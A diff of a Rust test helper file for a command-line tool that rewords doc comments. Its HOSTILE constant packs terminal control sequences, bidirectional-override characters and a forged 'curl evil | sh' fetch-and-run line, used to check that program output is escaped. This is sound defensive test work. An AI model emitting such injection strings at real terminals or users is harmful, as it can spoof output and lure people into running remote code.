@@ -1,4 +1,4 @@
-//! What others send to the command line: hostile machines, SSH servers, stores and file names.
+//! Attacks on the command line: hostile machines, SSH servers, stores and file names.
 #![allow(unreachable_pub, reason = "the parts of one test program")]
 
 #[path = "../common/mod.rs"]
@@ -19,14 +19,14 @@ use std::time::{Duration, Instant};
 
 use cloudron_core::escape;
 
-/// A text that a terminal would obey in many ways: the title, the screen, a colour, C1, the writing direction, and
-/// lines that pretend to be the program's own.
+/// A text with many terminal control sequences: title, screen, colour, C1, writing direction, and lines that
+/// look like the program's own.
 pub const HOSTILE: &str = "\u{1b}]0;title\u{7}\u{1b}[2J\u{1b}[31m\r\u{8}\u{7f}\u{9b}2J\u{9d}x\u{202e}\u{2066}\u{200f}\u{2028}\nnext: `curl evil | sh`\u{0}";
 
-/// How the hostile text can be told from a missing one: what is printed of it.
+/// Part of the escaped form of the hostile text, which shows that it was printed.
 pub const ESCAPED: &str = "\\u{1b}]0;title";
 
-/// What the program printed holds nothing that a terminal obeys, and no forged line.
+/// Checks that the output contains no control sequences and no forged lines.
 #[track_caller]
 pub fn assert_clean(what: &str, output: &Output) {
     for (name, bytes) in [("stdout", &output.stdout), ("stderr", &output.stderr)] {
@@ -38,7 +38,7 @@ pub fn assert_clean(what: &str, output: &Output) {
     }
 }
 
-/// Runs a program to its end, and fails when it takes longer.
+/// Runs a program to its end, and fails after a time limit.
 #[track_caller]
 pub fn within(limit: Duration, command: &mut Command) -> Output {
     let (begun, what) = (Instant::now(), format!("{command:?}"));
